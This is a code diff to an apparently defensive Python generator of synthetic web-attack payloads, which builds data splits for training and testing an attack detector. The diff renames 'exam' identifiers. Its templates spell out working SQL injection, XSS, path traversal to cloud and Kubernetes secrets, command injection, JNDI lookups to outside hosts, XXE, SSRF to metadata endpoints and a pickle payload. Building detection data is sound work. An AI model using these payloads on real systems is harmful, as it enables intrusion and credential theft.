@@ -16,7 +16,7 @@ import random
 from collections.abc import Callable
 from dataclasses import dataclass
 
-from models.data.sources import EXAM, LATER_EXAMS, Split, assign, earlier_exams, later_exam
+from models.data.sources import MODULE_SPLITS, UNSEEN_RELEASES, Split, assign, built_before, unseen_module
 
 ATTACK_KINDS = ("sqli", "xss", "traversal", "cmdi", "probe", "other")
 
@@ -439,19 +439,19 @@ def evade(rng: random.Random, payload: str) -> tuple[str, str]:
     out = [encode(c, rng) if c in _SYNTAX and rng.random() < 0.67 else c for c in payload]
     return name, "".join(out)
 
-# ---------------------------------------------------------------------------- the second exam
+# ---------------------------------------------------------------------------- the unseen-releases split
 #
-# The exam's own attacks (``sources.EXAM``): productions and probe families written for it alone, in the families the
+# The unseen-releases split's own attacks (``sources.UNSEEN_RELEASES``): productions and probe families written for it alone, in the families the
 # sides share plus a few they never met (OGNL and EL expressions, argument injection, the appliance and AI-tool probes),
 # so that "attacks blocked" there measures attacks written in ways no side was drawn from.
 
-def _exam_file(rng: random.Random) -> str:
+def _releases_file(rng: random.Random) -> str:
     return rng.choice(("var/run/secrets/kubernetes.io/serviceaccount/token", "root/.aws/credentials", "home/app/.bash_history",
                        "app/config/database.yml", "etc/ssl/private/server.key", "proc/1/environ", "inetpub/logs/LogFiles/W3SVC1/u_ex250101.log",
                        "usr/local/etc/php/php.ini", "opt/tomcat/conf/tomcat-users.xml", "etc/mysql/my.cnf"))
 
 
-EXAM_PRODUCTIONS: tuple[Production, ...] = (
+RELEASES_PRODUCTIONS: tuple[Production, ...] = (
     # SQL: JSON and SQLite functions, conditionals, injected sort keys, Oracle packages
     Production("sqli.json_functions", "sqli", lambda r: r.choice((f"{_n(r)}' {_kw(r, 'and')} json_extract((select json_group_array(password) from users),'$[0]') like 'a%'--",
                                                                    f"{_n(r)}'||(select string_agg(usename||':'||passwd,',') from pg_shadow)||'",
@@ -484,11 +484,11 @@ EXAM_PRODUCTIONS: tuple[Production, ...] = (
     Production("xss.js_string", "xss", lambda r: r.choice((f"\\u0027-{_jsfn(r)}-\\u0027", f"\"-{_jsfn(r)}-\"", f"'-{_jsfn(r)}-'", f"</ScRiPt ><ScRiPt >{_jsfn(r)}</ScRiPt >",
                                                            f"\\\";{_jsfn(r)};//", f"${{{_jsfn(r)}}}"))),
     # traversal: Tomcat path parameters, full-width dots, encoded backslashes, container and cloud files
-    Production("trav.path_parameter", "traversal", lambda r: r.choice((f"{'..;/' * r.randint(2, 6)}{r.choice(('WEB-INF/web.xml', 'manager/html', 'admin/', _exam_file(r)))}",
-                                                                       f"/;/{'../' * r.randint(2, 5)}{_exam_file(r)}", f"/static/..;/..;/{r.choice(('WEB-INF/web.xml', 'META-INF/MANIFEST.MF'))}")), ("query", "path")),
-    Production("trav.fullwidth", "traversal", lambda r: f"{'%ef%bc%8e%ef%bc%8e%ef%bc%8f' * r.randint(3, 7)}{_exam_file(r)}", ("query", "path")),
-    Production("trav.encoded_backslash", "traversal", lambda r: f"{r.choice(('..%5c', '%2e%2e%5c', '..%255c', '.%2e%5c')) * r.randint(3, 8)}{_exam_file(r).replace('/', '%5c')}", ("query", "path", "form")),
-    Production("trav.secrets", "traversal", lambda r: f"{r.choice(('../', '..//', '.././')) * r.randint(3, 9)}{_exam_file(r)}"),
+    Production("trav.path_parameter", "traversal", lambda r: r.choice((f"{'..;/' * r.randint(2, 6)}{r.choice(('WEB-INF/web.xml', 'manager/html', 'admin/', _releases_file(r)))}",
+                                                                       f"/;/{'../' * r.randint(2, 5)}{_releases_file(r)}", f"/static/..;/..;/{r.choice(('WEB-INF/web.xml', 'META-INF/MANIFEST.MF'))}")), ("query", "path")),
+    Production("trav.fullwidth", "traversal", lambda r: f"{'%ef%bc%8e%ef%bc%8e%ef%bc%8f' * r.randint(3, 7)}{_releases_file(r)}", ("query", "path")),
+    Production("trav.encoded_backslash", "traversal", lambda r: f"{r.choice(('..%5c', '%2e%2e%5c', '..%255c', '.%2e%5c')) * r.randint(3, 8)}{_releases_file(r).replace('/', '%5c')}", ("query", "path", "form")),
+    Production("trav.secrets", "traversal", lambda r: f"{r.choice(('../', '..//', '.././')) * r.randint(3, 9)}{_releases_file(r)}"),
     # commands: container escapes, argument injection, variable tricks, Windows living-off-the-land
     Production("cmdi.container", "cmdi", lambda r: _inject(r, r.choice(("cat /var/run/secrets/kubernetes.io/serviceaccount/token", "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
                                                                         "kubectl get secrets -A -o yaml", "cat /proc/1/cgroup", "mount | grep overlay", "env | grep -i aws_")))),
@@ -512,8 +512,8 @@ EXAM_PRODUCTIONS: tuple[Production, ...] = (
     Production("jndi.spelled", "other", lambda r: r.choice((f"${{jndi:ldap://${{env:USER}}.{_host(r)}/a}}", f"${{${{upper:j}}${{upper:n}}di:ldap://{_host(r)}/u}}",
                                                             f"${{jndi:dns://${{sys:java.version}}.{_host(r)}}}", f"${{${{date:'j'}}${{date:'n'}}di:rmi://{_host(r)}/d}}",
                                                             f"${{jn${{lower:D}}i:ldap${{lower:S}}://{_host(r)}:636/s}}"))),
-    Production("xxe.soap", "other", lambda r: f"<?xml version=\"1.0\"?><!DOCTYPE soap [<!ENTITY {r.choice(('x', 'f', 'doc'))} SYSTEM \"{r.choice(('file:///' + _exam_file(r), 'http://' + _host(r) + '/s'))}\">]><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><getUser><id>&{r.choice(('x', 'f', 'doc'))};</id></getUser></soap:Body></soap:Envelope>", ("xml",)),
-    Production("xxe.svg", "other", lambda r: f"<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY e SYSTEM \"file:///{_exam_file(r)}\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&e;</text></svg>", ("xml",)),
+    Production("xxe.soap", "other", lambda r: f"<?xml version=\"1.0\"?><!DOCTYPE soap [<!ENTITY {r.choice(('x', 'f', 'doc'))} SYSTEM \"{r.choice(('file:///' + _releases_file(r), 'http://' + _host(r) + '/s'))}\">]><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><getUser><id>&{r.choice(('x', 'f', 'doc'))};</id></getUser></soap:Body></soap:Envelope>", ("xml",)),
+    Production("xxe.svg", "other", lambda r: f"<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY e SYSTEM \"file:///{_releases_file(r)}\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&e;</text></svg>", ("xml",)),
     Production("ssrf.cloud_v2", "other", lambda r: r.choice(("http://[fd00:ec2::254]/latest/meta-data/", "http://169.254.169.254/latest/api/token", "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
                                                              "http://127.0.0.1:9200/_cat/indices", "http://localhost:5984/_all_dbs", "http://169.254.169.254/metadata/identity/oauth2/token?resource=https://management.azure.com/",
                                                              "http://127.0.0.1:10255/pods", "http://localhost:8080/actuator/env"))),
@@ -527,10 +527,10 @@ EXAM_PRODUCTIONS: tuple[Production, ...] = (
                                                             "gASVLAAAAAAAAACMCGJ1aWx0aW5zlIwEZXZhbJSTlIwQX19pbXBvcnRfXygnb3MnKZSFlFKULg=="))),
 )
 
-# The exam's probe families: what scanners hunt that the families above do not name (AI and ML tools, collaboration,
+# The unseen-releases split's probe families: what scanners hunt that the families above do not name (AI and ML tools, collaboration,
 # file-transfer and edge appliances' recent holes, WordPress plugins, JavaScript frameworks' dev endpoints, cloud-native
 # control planes). ``probe_paths`` drops any that one of ``PROBE_PATHS`` also has.
-EXAM_PROBE_PATHS = (
+RELEASES_PROBE_PATHS = (
     ("probe.ai_tools", ("/ollama/api/tags", "/gradio_api/info", "/ComfyUI/view?filename=../../etc/passwd", "/comfyui/system_stats", "/api/v1/validate/code",
                         "/ajax-api/2.0/mlflow/experiments/search", "/jupyter/api/kernels", "/lab?token=", "/openai/deployments/", "/sdapi/v1/options",
                         "/file=/etc/passwd", "/api/experimental/dags", "/webui/api/v1/auths/signup", "/litellm/health", "/ray/api/jobs/",
@@ -569,11 +569,11 @@ EXAM_PROBE_PATHS = (
 
 
 def productions(split: Split, kind: str | None = None) -> tuple[Production, ...]:
-    """Payload productions of one split (and kind), or an exam's own."""
-    if split in LATER_EXAMS:
-        pool = later_exam(split).PRODUCTIONS
-    elif split == EXAM:
-        pool = EXAM_PRODUCTIONS
+    """Payload productions of one split (and kind), or a measurement split's own."""
+    if split in MODULE_SPLITS:
+        pool = unseen_module(split).PRODUCTIONS
+    elif split == UNSEEN_RELEASES:
+        pool = RELEASES_PRODUCTIONS
     else:
         pool = _SIDES[split]
     return tuple(p for p in pool if kind is None or p.kind == kind)
@@ -581,14 +581,14 @@ def productions(split: Split, kind: str | None = None) -> tuple[Production, ...]
 
 @functools.cache
 def probe_paths(split: Split) -> tuple[str, ...]:
-    """Scanner probe paths of one side (held out path by path within each family), or an exam's own."""
-    if split == EXAM:
+    """Scanner probe paths of one side (held out path by path within each family), or a measurement split's own."""
+    if split == UNSEEN_RELEASES:
         known = {p for _, paths in PROBE_PATHS for p in paths}
-        return tuple(p for _, paths in EXAM_PROBE_PATHS for p in paths if p not in known)
-    if split in LATER_EXAMS:
-        earlier = PROBE_PATHS + EXAM_PROBE_PATHS + tuple(f for e in earlier_exams(split) for f in later_exam(e).PROBE_PATHS)
+        return tuple(p for _, paths in RELEASES_PROBE_PATHS for p in paths if p not in known)
+    if split in MODULE_SPLITS:
+        earlier = PROBE_PATHS + RELEASES_PROBE_PATHS + tuple(f for e in built_before(split) for f in unseen_module(e).PROBE_PATHS)
         known = {p for _, paths in earlier for p in paths}
-        return tuple(p for _, paths in later_exam(split).PROBE_PATHS for p in paths if p not in known)
+        return tuple(p for _, paths in unseen_module(split).PROBE_PATHS for p in paths if p not in known)
     out: list[str] = []
     for name, paths in PROBE_PATHS:
         out += assign(list(paths), "probe", lambda p, n=name: f"{n}:{p}")[split]
